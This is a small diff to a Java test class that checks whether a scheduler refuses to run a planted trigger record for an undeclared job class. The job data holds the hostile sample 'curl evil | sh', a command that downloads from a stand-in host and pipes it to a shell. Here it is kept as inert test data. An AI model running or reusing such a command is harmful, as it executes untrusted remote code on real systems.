@@ -60,7 +60,7 @@ class PlantedRecordTests {
 	void aTriggerRecordForAJobClassTheApplicationNeverDeclaredDoesNotRun(CapturedOutput output) throws Exception {
 		plantedRuns.clear();
 		String node = plant(".triggers/DEFAULT.planted", TriggerRecord.encode(everySecond("planted", "planted"),
-				JobBuilder.newJob(PlantedJob.class).withIdentity("planted").usingJobData("command", "curl evil | sh")
+				JobBuilder.newJob(PlantedJob.class).withIdentity("planted").usingJobData("payload", "curl evil | sh")
 					.build()));
 
 		Instance a = this.quartz.start("a", zk.newClient(), Duration.ofSeconds(2), GatedQuartz.Setup.NONE);
@@ -77,7 +77,7 @@ class PlantedRecordTests {
 		plantedRuns.clear();
 		this.quartz = new GatedQuartz("/leader-" + UUID.randomUUID());
 		plant(".triggers/DEFAULT.planted", TriggerRecord.encode(everySecond("planted", "planted"),
-				JobBuilder.newJob(PlantedJob.class).withIdentity("planted").usingJobData("command", "curl evil | sh")
+				JobBuilder.newJob(PlantedJob.class).withIdentity("planted").usingJobData("payload", "curl evil | sh")
 					.build()));
 		ZkProperties properties = new ZkProperties();
 		properties.getAuth().setCredentials("app:s3cret");
